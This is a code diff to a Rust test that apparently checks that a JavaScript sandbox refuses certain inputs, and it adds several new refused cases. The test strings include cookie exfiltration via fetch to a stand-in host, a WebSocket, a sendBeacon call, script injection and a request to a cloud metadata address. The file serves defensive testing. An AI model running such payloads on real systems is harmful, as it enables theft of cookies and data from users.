@@ -107,6 +107,11 @@ fn ways_behind_objects_are_refused() {
             "for (;;);",
             "'x'.repeat(1e10)",
             "fetch('http://169.254.169.254/')",
+            "fetch('https://collect.example/?' + document.cookie)",
+            "new WebSocket('wss://collect.example')",
+            "const x = new XMLHttpRequest()",
+            "navigator.sendBeacon('https://collect.example', text)",
+            "document.createElement('script').src = address",
         ],
     );
 }
